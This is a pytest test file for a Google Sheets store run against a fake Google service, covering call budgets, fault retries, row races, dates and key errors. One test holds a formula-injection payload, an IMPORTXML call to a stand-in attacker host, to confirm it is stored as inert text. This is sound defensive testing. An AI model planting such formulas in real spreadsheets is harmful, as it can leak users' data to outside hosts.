"""The Google Sheets store against the twin: call budget, faults, races, RAW text, errors."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from automation.store.gsheets import SheetsStore
from sheets_schema.errors import BackendError, SheetError
from sheets_schema.records import Append, Changes, Delete, Update
from sheets_schema.tabs import TAB_ORDER
from tests.fakes.google import make_app
from tests.google_store_factory import google_services


@pytest.fixture(scope="module")
def twin() -> Any:
    return make_app(require_auth=True)


@pytest.fixture(scope="module")
def services(twin: Any, tmp_path_factory: pytest.TempPathFactory) -> Any:
    return google_services(twin, tmp_path_factory.mktemp("key"))


@pytest.fixture
def store(twin: Any, services: Any, tmp_path: Path) -> SheetsStore:
    services.retry.sleep = lambda s: None
    s = SheetsStore(services, twin.create_spreadsheet("Chorus"), lock_dir=tmp_path)
    s.ensure_tabs()
    twin.clear_faults()
    return s


def queue_row(n: int, **extra: str) -> dict[str, str]:
    row = {"id": f"Q-{n:05d}", "source_kind": "External", "headline": f"Item {n}", "status": "New"}
    row.update(extra)
    return row


def scenario(n: int) -> tuple[Changes, Changes]:
    seed = Changes(appends=tuple(Append("Queue", queue_row(i)) for i in range(1, n + 1)))
    work = Changes(
        appends=tuple(Append("Queue", queue_row(i)) for i in range(n + 1, 2 * n + 1))
        + (
            Append(
                "Mentions",
                {"id": "M-1", "found_at": "2026-11-24 09:00", "kind": "Mention", "status": "New"},
            ),
        ),
        updates=tuple(
            Update("Queue", (f"Q-{i:05d}",), {"status": "Approved", "notes": "ok"})
            for i in range(1, n + 1, 2)
        ),
        deletes=(Delete("Queue", ("Q-00002",)),),
    )
    return seed, work


def count_calls(twin: Any, fn: Any) -> int:
    twin.reset_calls()
    fn()
    return twin.call_count()


def test_reading_and_writing_10000_rows_costs_the_same_calls_as_10(
    twin: Any, store: SheetsStore, services: Any, tmp_path: Path
) -> None:
    costs = {}
    for n in (10, 10_000):
        s = SheetsStore(services, twin.create_spreadsheet(f"n={n}"), lock_dir=tmp_path)
        s.ensure_tabs()
        seed, work = scenario(n)
        s.apply(seed)
        read = count_calls(twin, lambda s=s: s.read(["Queue", "Mentions", "People"]))
        write = count_calls(twin, lambda s=s, w=work: s.apply(w))
        costs[n] = (read, write)
        assert len(s.read(["Queue"])["Queue"]) == 2 * n - 1
    assert costs[10] == costs[10_000]
    read, write = costs[10]
    assert read == 1  # one values:batchGet
    assert write <= 6  # re-read, batchUpdate, deleteDimension, two appends (+ tab ids once)


def test_ensure_tabs_is_one_structural_batch_update(
    twin: Any, services: Any, tmp_path: Path
) -> None:
    s = SheetsStore(services, twin.create_spreadsheet("new"), lock_dir=tmp_path)
    twin.reset_calls()
    created = s.ensure_tabs()
    assert "Queue" in created and "Runs" in created
    assert twin.call_count(method="spreadsheets.batchUpdate") == 1
    assert twin.call_count() <= 3
    headers = twin.sheet_values(s.spreadsheet_id, "Queue!A1:C1")
    assert headers == [["ID", "Created", "Source Kind"]]


def test_user_text_is_written_raw_never_as_a_formula(twin: Any, store: SheetsStore) -> None:
    text = '=IMPORTXML("http://evil.example","//a")'
    store.apply(Changes(appends=(Append("Queue", queue_row(1, headline=text, details="+SUM(1)")),)))
    values = twin.sheet_values(store.spreadsheet_id, "Queue!A2:F2")
    assert values[0][4] == text and values[0][5] == "+SUM(1)"


def test_an_update_lands_on_the_right_row_after_a_coordinator_sorts_between_read_and_write(
    twin: Any, store: SheetsStore
) -> None:
    store.apply(Changes(appends=tuple(Append("Queue", queue_row(n)) for n in range(1, 6))))
    store.read(["Queue"])  # the job's read
    # The coordinator sorts Z-A and inserts a row at the top, through the API as the UI would.
    gc = store.services.gspread_client()
    ws = gc.open_by_key(store.spreadsheet_id).worksheet("Queue")
    rows = ws.get_all_values()
    ws.update([rows[0]] + list(reversed(rows[1:])), "A1", raw=True)
    ws.insert_row(["Q-09999", "", "External", "", "Inserted by hand", "", "", "", "", "New"], 2)
    result = store.apply(Changes(updates=(Update("Queue", ("Q-00002",), {"status": "Approved"}),)))
    queue = store.read(["Queue"])["Queue"].set_index("id")
    assert queue.loc["Q-00002", "status"] == "Approved"
    assert (queue["status"] == "Approved").sum() == 1
    assert queue.loc["Q-09999", "headline"] == "Inserted by hand"
    assert result.updated == {"Queue": 1}


def test_a_column_people_added_between_fields_is_untouched(twin: Any, store: SheetsStore) -> None:
    store.apply(Changes(appends=(Append("Queue", queue_row(1)),)))
    gc = store.services.gspread_client()
    ws = gc.open_by_key(store.spreadsheet_id).worksheet("Queue")
    ws.insert_cols([["My notes", "keep me"]], 2)
    store.apply(
        Changes(
            updates=(
                Update("Queue", ("Q-00001",), {"id": "Q-00001", "created": "2026-11-24 09:00"}),
            )
        )
    )
    row = twin.sheet_values(store.spreadsheet_id, "Queue!A2:C2")[0]
    assert row == ["Q-00001", "keep me", "2026-11-24 09:00"]


# Google never applies a request it answers 429, so that fault only comes before applying.
FAULTS = [(f, False) for f in ("429", "500", "503", "reset", "timeout")] + [
    (f, True) for f in ("500", "503", "reset", "timeout")
]


@pytest.mark.parametrize("fault, after_apply", FAULTS)
def test_a_fault_at_any_call_ends_in_the_same_sheet_as_no_fault(
    twin: Any, services: Any, tmp_path: Path, fault: str, after_apply: bool
) -> None:
    seed, work = scenario(6)

    def final_state(inject_at: int | None) -> tuple[Any, ...]:
        s = SheetsStore(services, twin.create_spreadsheet("faults"), lock_dir=tmp_path)
        s.ensure_tabs()
        s.apply(seed)
        twin.clear_faults()
        if inject_at is not None:
            twin.inject(fault, at_call=inject_at, api="sheets", after_apply=after_apply)
        twin.reset_calls()
        try:
            s.apply(work)
        except BackendError:
            twin.clear_faults()
            s.apply(work)  # the run stopped with a clear error; a re-run completes it
        calls = twin.call_count(api="sheets")
        twin.clear_faults()
        return (
            calls,
            twin.sheet_values(s.spreadsheet_id, "Queue"),
            twin.sheet_values(s.spreadsheet_id, "Mentions"),
        )

    calls, *expected = final_state(None)
    assert calls >= 4
    for at in range(1, calls + 1):
        assert final_state(at)[1:] == tuple(expected), (
            f"{fault} at call {at} (after_apply={after_apply})"
        )


def test_429_waits_at_least_retry_after(twin: Any, store: SheetsStore) -> None:
    sleeps: list[float] = []
    store.services.retry.sleep = sleeps.append
    twin.inject("429", at_call=1, api="sheets", retry_after=7)
    store.read(["Queue"])
    assert sleeps and sleeps[0] >= 7


def test_retries_are_bounded_and_end_in_a_clear_error_with_nothing_written(
    twin: Any, store: SheetsStore
) -> None:
    store.apply(Changes(appends=(Append("Queue", queue_row(1)),)))
    before = twin.sheet_values(store.spreadsheet_id, "Queue")
    twin.inject("503", at_call=1, api="sheets", times=100)
    with pytest.raises(BackendError, match="after 6 tries"):
        store.apply(
            Changes(
                appends=(Append("Queue", queue_row(2)),),
                updates=(Update("Queue", ("Q-00001",), {"status": "Approved"}),),
            )
        )
    twin.clear_faults()
    assert twin.sheet_values(store.spreadsheet_id, "Queue") == before


def test_a_missing_tab_is_an_error_naming_it(twin: Any, services: Any, tmp_path: Path) -> None:
    s = SheetsStore(services, twin.create_spreadsheet("bare"), lock_dir=tmp_path)
    s.ensure_tabs(["Queue"])
    with pytest.raises(SheetError, match="'People'"):
        s.read(["Queue", "People"])


def test_an_unknown_spreadsheet_says_to_share_it_with_the_service_account(
    services: Any, tmp_path: Path
) -> None:
    s = SheetsStore(services, "does-not-exist", lock_dir=tmp_path)
    with pytest.raises(BackendError, match="share the spreadsheet with chorus-twin"):
        s.read(["Queue"])


def test_a_cell_over_sheets_limit_is_refused_before_anything_is_written(
    twin: Any, store: SheetsStore
) -> None:
    with pytest.raises(SheetError, match="50,000"):
        store.apply(
            Changes(
                appends=(
                    Append("Queue", queue_row(1)),
                    Append("Queue", queue_row(2, details="x" * 50_001)),
                )
            )
        )
    assert twin.sheet_values(store.spreadsheet_id, "Queue")[1:] == []


def test_api_calls_are_counted_per_run(twin: Any, store: SheetsStore) -> None:
    before = store.calls
    store.read(["Queue"])
    assert store.calls == before + 1


# -- real dates and numbers ------------------------------------------------------


def stored(twin: Any, store: SheetsStore, tab: str, header: str) -> list[Any]:
    """The cells of one column under its header, as the twin holds them."""
    book = twin.store.book(store.spreadsheet_id)
    sheet = book.sheet_by_title(tab)
    col = next(c for (r, c), cell in sheet.cells.items() if r == 0 and cell.value == header)
    last = max(r for (r, _), cell in sheet.cells.items() if cell.has_value())
    return [sheet.cell(r, col) for r in range(1, last + 1)]


def test_dates_are_serial_numbers_under_a_date_format_and_read_back_as_the_same_text(
    twin: Any, store: SheetsStore
) -> None:
    created = ["2026-12-01 09:05", "2026-11-24 17:30", "2026-12-01 00:00"]
    store.apply(
        Changes(
            appends=tuple(
                Append("Queue", queue_row(n, created=c)) for n, c in enumerate(created, 1)
            )
            + (
                Append("Rota", {"week_starting": "2026-11-30", "coordinator": "a@example.org"}),
                Append("Channels", {"channel": "LinkedIn", "posts_per_week": "3"}),
                Append(
                    "Submissions", {"response_id": "R-1", "submitted_at": "2026-11-24 09:15:07"}
                ),
            )
        )
    )
    store.apply(
        Changes(updates=(Update("Queue", ("Q-00002",), {"published_at": "2026-12-02 08:00"}),))
    )
    cells = stored(twin, store, "Queue", "Created")
    assert [c.value for c in cells] == [46357 + 9 / 24 + 5 / 1440, 46350 + 17.5 / 24, 46357]
    assert {c.fmt["numberFormat"]["pattern"] for c in cells} == {"yyyy-mm-dd hh:mm"}
    assert stored(twin, store, "Rota", "Week Starting")[0].value == 46356
    assert stored(twin, store, "Channels", "Posts Per Week")[0].value == 3
    published = stored(twin, store, "Queue", "Published At")[1]
    assert (
        published.value == 46358 + 8 / 24 and published.fmt["numberFormat"]["type"] == "DATE_TIME"
    )

    read = store.read(["Queue", "Rota", "Channels", "Submissions"])
    assert read["Queue"]["created"].tolist() == created
    assert read["Queue"]["published_at"].tolist() == ["", "2026-12-02 08:00", ""]
    assert read["Rota"]["week_starting"].tolist() == ["2026-11-30"]
    assert read["Channels"]["posts_per_week"].tolist() == ["3"]
    assert read["Submissions"]["submitted_at"].tolist() == ["2026-11-24 09:15:07"]


def test_text_that_is_not_a_date_stays_text_and_formulas_stay_inert(
    twin: Any, store: SheetsStore
) -> None:
    store.apply(
        Changes(
            appends=(
                Append("Queue", queue_row(1, scheduled_for="31/11/2026 09:00")),
                Append("Queue", queue_row(2, scheduled_for="=TODAY()")),
                Append("Channels", {"channel": "X", "posts_per_week": "three"}),
            )
        )
    )
    assert [c.value for c in stored(twin, store, "Queue", "Scheduled For")] == [
        "31/11/2026 09:00",
        "=TODAY()",
    ]
    assert all(c.formula is None for c in stored(twin, store, "Queue", "Scheduled For"))
    read = store.read(["Queue", "Channels"])
    assert read["Queue"]["scheduled_for"].tolist() == ["31/11/2026 09:00", "=TODAY()"]
    assert read["Channels"]["posts_per_week"].tolist() == ["three"]


def test_every_tab_gets_a_filter_and_an_older_spreadsheet_gets_one_at_init(
    twin: Any, store: SheetsStore
) -> None:
    book = twin.store.book(store.spreadsheet_id)
    assert all(book.sheet_by_title(name).basic_filter for name in TAB_ORDER)
    book.sheet_by_title("Rota").basic_filter = None
    assert store.ensure_tabs() == ["Rota (filter)"]
    assert twin.store.book(store.spreadsheet_id).sheet_by_title("Rota").basic_filter
    assert store.ensure_tabs() == []


def test_a_date_whose_format_a_person_cleared_still_reads_as_the_date(
    twin: Any, store: SheetsStore
) -> None:
    store.apply(Changes(appends=(Append("Rota", {"week_starting": "2026-11-30"}),)))
    for cell in stored(twin, store, "Rota", "Week Starting"):
        cell.fmt = None
    assert store.read(["Rota"])["Rota"]["week_starting"].tolist() == ["2026-11-30"]


# -- a rejected service-account key ------------------------------------------------


def forged_key(twin: Any, folder: Path) -> Path:
    """A key file with a known key id but another private key: Google answers invalid_grant."""
    import json

    key = twin.make_service_account_key()
    other = make_app().make_service_account_key()
    path = folder / "rejected-key.json"
    path.write_text(json.dumps(dict(key, private_key=other["private_key"])), encoding="utf-8")
    path.chmod(0o600)
    return path


def test_a_rejected_key_is_one_backend_error_with_the_fix(twin: Any, tmp_path: Path) -> None:
    from automation.google.credentials import load_credentials
    from automation.google.transport import GoogleServices

    creds, _ = load_credentials(forged_key(twin, tmp_path), "")
    services = GoogleServices(creds, None, base_session=twin.requests_session())
    store = SheetsStore(services, twin.create_spreadsheet("Chorus"), lock_dir=tmp_path)
    with pytest.raises(BackendError) as err:
        store.read(["Queue"])
    assert "Google refused a token (invalid_grant" in err.value.message
    assert "create a new key" in err.value.fix
    assert err.value.exit_code == 3


@pytest.mark.parametrize("command", [["validate"], ["run", "check-cadence"]])
def test_chorus_says_the_key_was_rejected_and_exits_3(tmp_path: Path, command: list[str]) -> None:
    from click.testing import CliRunner

    from automation.cli import cli
    from automation.config_edit import set_toml_values
    from tests.test_google_e2e import google_config, loopback_twin

    with loopback_twin() as (twin, url):
        spreadsheet = twin.create_spreadsheet("Chorus")  # type: ignore[attr-defined]
        config = google_config(tmp_path, forged_key(twin, tmp_path))
        config.write_text(
            set_toml_values(
                config.read_text(encoding="utf-8"),
                {("backend", "kind"): "google", ("backend", "spreadsheet_id"): spreadsheet},
            ),
            encoding="utf-8",
        )
        result = CliRunner().invoke(
            cli,
            ["--config", str(config), *command],
            env={"CHORUS_GOOGLE_API_ENDPOINT": url, "GOOGLE_APPLICATION_CREDENTIALS": ""},
        )
    assert result.exit_code == 3, result.output
    assert "Traceback" not in result.output
    assert "Google refused a token (invalid_grant" in result.output


def test_the_columns_shown_to_the_second_are_the_form_response_times_sync_forms_compares() -> None:
    from jobs.responses import TIME_FIELD
    from sheets_schema.cells import SECONDS_COLUMNS

    assert SECONDS_COLUMNS == set(TIME_FIELD.items())


# -- the Program tab's dropdowns -------------------------------------------------------


def program_value_rules(store: SheetsStore) -> dict[str, Any]:
    """The data validation of each Program Value cell, as Google answers spreadsheets.get."""
    meta = store.http.fetch_sheet_metadata(
        store.spreadsheet_id,
        params={
            "ranges": "'Program'!B2:B20",
            "includeGridData": "true",
            "fields": "sheets.data(startRow,rowData.values.dataValidation)",
        },
    )
    data = meta["sheets"][0]["data"][0]
    start = data.get("startRow", 0)
    return {
        f"B{start + 1 + i}": row["values"][0]["dataValidation"]
        for i, row in enumerate(data.get("rowData", []))
        if row.get("values") and row["values"][0].get("dataValidation")
    }


def test_a_crisis_mode_row_gets_a_strict_on_off_dropdown_on_its_value_cell_only(
    store: SheetsStore,
) -> None:
    changes = Changes(
        appends=(
            Append("Program", {"setting": "Policy Version", "value": "v3"}),
            Append("Program", {"setting": "Crisis Mode", "value": "On"}),
        )
    )
    cost, before = store.write_cost(changes), store.calls

    store.apply(changes)

    assert store.calls - before == cost
    rule = program_value_rules(store)
    assert list(rule) == ["B3"]  # Policy Version stays free text
    assert rule["B3"]["condition"] == {
        "type": "ONE_OF_LIST",
        "values": [{"userEnteredValue": "On"}, {"userEnteredValue": "Off"}],
    }
    assert rule["B3"]["strict"] is True and rule["B3"]["showCustomUi"] is True


def test_a_program_row_appended_below_crisis_mode_stays_free_text(store: SheetsStore) -> None:
    store.apply(Changes(appends=(Append("Program", {"setting": "Crisis Mode", "value": "Off"}),)))
    changes = Changes(
        appends=(Append("Program", {"setting": "Policy Digest 2026-09", "value": "3 items"}),)
    )
    cost, before = store.write_cost(changes), store.calls

    store.apply(changes)

    assert store.calls - before == cost
    assert list(program_value_rules(store)) == ["B2"]
    assert store.read(["Program"])["Program"]["value"].tolist() == ["Off", "3 items"]
